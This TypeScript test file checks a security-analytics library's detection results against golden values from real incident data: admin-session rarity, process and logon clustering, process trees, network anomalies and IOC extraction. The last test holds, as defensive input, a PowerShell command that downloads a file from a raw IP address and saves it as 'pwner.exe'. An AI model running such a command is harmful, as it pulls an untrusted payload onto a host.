import {
  buildProcessTree,
  clusterEvents,
  decomposeSeries,
  extractIocs,
  processFeatures,
  scoreSessions,
} from '@casebook/analysis';
import { DateTime, desc, Frame, type Cell } from '@casebook/core';
import { REAL_DATA, realCsv, realObjects } from '../src/real-data';

if (!REAL_DATA) process.stdout.write('skipped: golden values of real data, for ../shared is not there\n');

const inRealData = REAL_DATA ? describe : describe.skip;
const numbers = (frame: Frame, column: string): readonly number[] => [...frame.numbers(column)];

const processes = (): Frame =>
  realCsv('incident/processes_on_host.csv', {
    EventID: 'int',
    TimeCreatedUtc: 'datetime',
    TimeGenerated: 'datetime',
  });

inRealData('sessions of Exchange administrators', () => {
  type Parameter = { readonly Name: string; readonly Value: string };
  const session = (params: unknown): readonly unknown[] =>
    (params as readonly Readonly<Record<string, readonly Parameter[]>>[]).flatMap((command) =>
      Object.entries(command).map(([name, given]) => ({
        name,
        params: Object.fromEntries(given.map(({ Name, Value }) => [Name, Value])),
      })),
    );

  test('are as rare as the original says', () => {
    const frame = Frame.fromColumns([{ name: 'session', type: 'dynamic' }], {
      session: realObjects('exchange_admin_sessions.ndjson').map(({ params }) => session(params)),
    });
    const likelihoods = numbers(scoreSessions(frame, { column: 'session' }), 'rarest_window3_likelihood');
    expect(likelihoods).toHaveLength(146);
    expectNear(Math.min(...likelihoods), 2.5413764681869644e-6);
    expectNear(-Math.log(Math.min(...likelihoods)), 12.882804707108567);
    expectNear(-Math.log(Math.max(...likelihoods)), 4.727993344890641);
  });
});

const expectNear = (value: number, golden: number): void =>
  expect(Math.abs(value / golden - 1)).toBeLessThan(1e-9);

inRealData('an incident of January 2019', () => {
  const clustered = (columns: readonly string[], eps: number): Frame =>
    clusterEvents(processFeatures(processes()), { columns, eps, timeColumn: 'TimeCreatedUtc' });
  const sizes = (frame: Frame): readonly number[] =>
    numbers(frame.where({ Clustered: true }).sort(desc('ClusterSize')), 'ClusterSize');

  test('its processes fall into the patterns of the original', () => {
    const patterns = clustered(['commandlineTokensFull', 'pathScore', 'isSystemSession'], 0.0001);
    expect(patterns.rowCount).toBe(62);
    expect(patterns.where({ Clustered: false }).rowCount).toBe(33);
    expect(sizes(patterns).slice(0, 8)).toEqual([71, 39, 38, 35, 28, 23, 15, 9]);
    const names = patterns.sort(desc('ClusterSize')).values('processName');
    expect(names.slice(0, 6)).toEqual([
      'cscript.exe',
      'conhost.exe',
      'WmiPrvSE.exe',
      'ASMHost.exe',
      'win32calc.exe',
      'cmd.exe',
    ]);
  });

  test('so do they by fewer columns', () => {
    const patterns = clustered(['pathScore', 'commandlineTokensFull'], 0.001);
    expect(patterns.rowCount).toBe(5);
    expect(sizes(patterns)).toEqual([350, 7, 3, 2]);
    expect(sizes(clustered(['commandlineTokensFull', 'pathScore', 'isSystemSession'], 0.01))).toEqual([363]);
  });

  test('its logons fall into three patterns', () => {
    const logons = realCsv('incident/host_logons.csv', { LogonType: 'int', TimeGenerated: 'datetime' });
    const scored = logons.extend({
      AccountNum: ({ Account }) => [...String(Account)].reduce((sum, one) => sum + one.charCodeAt(0), 0),
    });
    const patterns = clusterEvents(scored, { columns: ['AccountNum', 'LogonType'], eps: 0.0001 });
    const told = patterns
      .rows()
      .map(
        ({ Account, LogonType, ClusterSize }): readonly Cell[] => [Account, LogonType, ClusterSize] as Cell[],
      );
    expect(told).toEqual([
      ['MSTICAlertsWin1\\adm1nistrator', 3, 1],
      ['MSTICAlertsWin1\\MSTICAdmin', 4, 2],
      ['NT AUTHORITY\\SYSTEM', 5, 11],
    ]);
  });

  test('its processes make the trees of the original', () => {
    const tree = buildProcessTree(processes());
    expect(tree.summary()).toEqual({
      Processes: 369,
      RootProcesses: 6,
      LeafProcesses: 279,
      BranchProcesses: 84,
      IsolatedProcesses: 0,
      InferredProcesses: 6,
      LargestTreeDepth: 5,
    });
    const rows = tree.toFrame().rows();
    const recorded = new Set(rows.flatMap(({ Inferred, proc_key }) => (Inferred ? [] : [proc_key])));
    expect(rows.filter(({ parent_key }) => recorded.has(parent_key ?? null))).toHaveLength(202);
  });
});

inRealData('bytes by the hour of July 2020', () => {
  test('the two anomalies have the scores of the original', () => {
    const rows = realObjects('network_bytes_hourly.ndjson');
    const series = Frame.fromColumns(
      [
        { name: 'TimeGenerated', type: 'datetime' },
        { name: 'TotalBytesSent', type: 'long' },
      ],
      {
        TimeGenerated: rows.map((row) => row['TimeGenerated']),
        TotalBytesSent: rows.map((row) => row['TotalBytesSent']),
      },
    );
    const found = decomposeSeries(series, {
      timeColumn: 'TimeGenerated',
      valueColumn: 'TotalBytesSent',
      compatibility: 'msticpy',
    });
    const anomalies = found.where('anomalies', '==', 1);
    expect(anomalies.values('TimeGenerated')).toEqual([
      DateTime.parse('2020-07-10T18:00:00Z'),
      DateTime.parse('2020-07-10T19:00:00Z'),
    ]);
    expect(numbers(anomalies, 'score').map((score) => score.toFixed(6))).toEqual(['6.220873', '6.055974']);
  });
});

test('the command of mission document 004, decoded, gives its indicators', () => {
  const decoded =
    'Invoke-WebRequest -Uri "http://38.75.137.9:9088/static/encrypt.min.js" -OutFile "c:\\pwner.exe"';
  const found = extractIocs(Frame.fromObjects([{ decoded }]), { columns: ['decoded'], includePaths: true });
  expect(found.rows().map(({ IoCType, Observable }) => [IoCType, Observable])).toEqual([
    ['url', 'http://38.75.137.9:9088/static/encrypt.min.js'],
    ['ipv4', '38.75.137.9'],
    ['windows_path', 'c:\\pwner.exe'],
  ]);
});
